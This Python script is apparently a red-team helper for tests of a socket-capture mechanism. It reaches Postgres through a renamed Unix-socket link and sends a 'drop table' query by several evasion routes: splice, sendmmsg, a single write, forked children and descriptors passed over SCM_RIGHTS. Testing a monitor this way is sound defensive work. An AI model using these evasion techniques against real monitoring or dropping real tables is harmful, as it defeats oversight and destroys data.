"""Postgres over a Unix socket reached through a link of another name (the connect check reads
the path only), its bytes moved every way the red team found (tests/test_capture_attacks.py):

    python3 rt_pg_unix.py LINK MODE TABLE     MODE: plain, splice, sendmmsg, onewrite, forked, forkfirst,
                                                    passedfirst

Modes that share the socket before the connect (forkfirst: a child forked with it; passedfirst: a
child forked before it existed, handed it over SCM_RIGHTS): the other holder waits for the
connecting process to die (a pipe's end), then sends on the socket.
"""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import sys
import time


def q(text: str) -> bytes:
    b = text.encode() + b"\0"
    return b"Q" + struct.pack("!i", 4 + len(b)) + b


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


def main(link: str, mode: str, table: str) -> None:
    params = b"user\0postgres\0database\0awtest\0application_name\0rt-" + mode.encode() + b"\0\0"
    startup = struct.pack("!ii", 8 + len(params), 0x00030000) + params
    query = q(f"drop table {table}")
    if mode in ("forkfirst", "passedfirst"):
        r, w = os.pipe()
        a, b = socket.socketpair()
        shared = socket.socket(socket.AF_UNIX) if mode == "forkfirst" else None
        if os.fork() == 0:
            os.close(w)
            # passedfirst: a process that never shared the parent's table gets it over SCM_RIGHTS
            fd = shared.fileno() if shared is not None else socket.recv_fds(b, 16, 1)[1][0]
            os.read(r, 1)              # the parent's death closes the pipe: connected by then
            try:
                os.write(fd, startup + query)
                print("child sent", flush=True)
            except OSError as e:
                print(f"child could not send {e.errno}", flush=True)
            time.sleep(1.5)
            os._exit(0)
        os.close(r)
        if shared is None:
            shared = socket.socket(socket.AF_UNIX)
            socket.send_fds(a, [b"x"], [shared.fileno()])
            time.sleep(0.3)            # received: in the child's table, no longer in flight
        try:
            shared.connect(link)
            print("connected", flush=True)
        except OSError as e:
            print(f"refused {e.errno}", flush=True)
        os.write(w, b"x")
        time.sleep(2)
        return
    s = socket.socket(socket.AF_UNIX)
    s.connect(link)
    print("connected", flush=True)

    def splice(data: bytes) -> None:
        r, w = os.pipe()
        os.write(w, data)
        os.close(w)
        os.splice(r, s.fileno(), len(data))
        os.close(r)

    if mode == "plain":                # startup, its answer, then the query
        os.write(s.fileno(), startup)
        print("answer", s.recv(65536)[:1], flush=True)
        os.write(s.fileno(), query)
    elif mode == "splice":             # neither a buffer nor an fd in the registers
        splice(startup)
        time.sleep(0.5)
        print("peek", s.recv(65536, socket.MSG_PEEK)[:1], flush=True)
        splice(query)
    elif mode == "sendmmsg":           # both in one call of two messages
        libc = ctypes.CDLL(None, use_errno=True)
        chunks = [startup, query]
        bufs = [ctypes.create_string_buffer(c, len(c)) for c in chunks]
        arr = (Mmsghdr * len(chunks))()
        iovs = [Iovec(ctypes.cast(b, ctypes.c_void_p), len(c)) for b, c in zip(bufs, chunks, strict=True)]
        for i, v in enumerate(iovs):
            arr[i].hdr.iov = ctypes.pointer(v)
            arr[i].hdr.iovlen = 1
        print("sent", libc.sendmmsg(s.fileno(), arr, len(chunks), 0), flush=True)
    elif mode == "onewrite":           # both queued before anything can act on the send
        os.write(s.fileno(), startup + query)
    elif mode == "forked":             # a child sends and dies; the parent keeps the socket open
        pid = os.fork()
        if pid == 0:
            os.write(s.fileno(), startup + query)
            time.sleep(1)
            os._exit(0)
        print("child", os.waitpid(pid, 0)[1], flush=True)
    time.sleep(1.5)
    print("alive", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:4])
